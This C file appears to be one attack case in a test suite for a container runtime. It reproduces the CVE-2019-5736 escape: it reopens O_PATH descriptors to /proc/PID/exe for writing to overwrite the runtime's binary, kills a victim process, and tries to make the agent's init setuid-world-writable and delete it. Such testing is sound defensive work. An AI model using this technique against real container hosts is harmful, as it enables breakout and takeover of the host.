/*
 * Overwrites the program of a running process through its /proc/PID/exe, the way CVE-2019-5736 left a
 * container by the runtime's own binary: open it by path, wait until it no longer runs, open that
 * descriptor again for writing.
 *
 * group: runtime
 * tries: overwrite the agent's and brig's own binary through /proc/PID/exe, by an O_PATH descriptor opened again, and where the
 *   agent can be seen inside
 * control: plain
 * shows: exe-changed victim-signalled
 */
#include "attack.h"

static int path_fds[4096], n;

/* Keeps an O_PATH descriptor of PID 1's program and of all that have a name of the scene's. */
static void collect(void)
{
	DIR *d = NULL;
	pid_t pid;

	while ((pid = next_process(&d)) && n < 4096) {
		char path[64], name[256] = "";
		int fd;

		(void)snprintf(path, sizeof(path), "/proc/%d/exe", pid);
		if (pid != 1 && (readlink(path, name, sizeof(name) - 1) < 0 || !strstr(name, "scene-")))
			continue;
		fd = open(path, O_PATH | O_CLOEXEC);
		if (fd >= 0)
			path_fds[n++] = fd;
	}
}

static long overwrite(const char *path)
{
	static const char junk[] = "#!/bin/false\n";
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	long r = fd < 0 ? -1 : pwrite(fd, junk, sizeof(junk) - 1, 0);

	if (fd >= 0)
		(void)close(fd);
	return r;
}

int main(int argc, char **argv)
{
	char path[400], link[64];
	pid_t victim = (pid_t)param_number(argv, "victim");
	long r = -1;

	(void)argc;
	collect();
	errno = EACCES;
	tried("o-path", n ? 0 : -1);
	if (victim > 1)
		(void)kill(victim, SIGKILL); /* inside there is nobody of that number */
	for (int tries = 0; tries < 200 && r < 0; tries++) {
		for (int i = 0; i < n && r < 0; i++) {
			(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", path_fds[i]);
			r = overwrite(path);
		}
		if (r < 0 && errno != ETXTBSY)
			break;
		(void)usleep(1000);
	}
	if (!n)
		r = overwrite("/proc/1/exe");
	tried("reopen", r);

	/* The way a script with `#!/proc/self/exe` runs the agent as its interpreter: by the agent's own place. */
	(void)snprintf(path, sizeof(path), "%s", "/.brig/init");
	if (access(path, F_OK) < 0)
		(void)snprintf(path, sizeof(path), "%s/runtime", param(argv, "dir"));
	(void)snprintf(link, sizeof(link), "/proc/self/fd/%d", open(path, O_PATH | O_CLOEXEC));
	tried("path-reopen", overwrite(link));
	tried("path-write", overwrite(path));
	tried("path-mode", chmod(path, 04777));
	tried("path-delete", unlink(path));
	return ended();
}
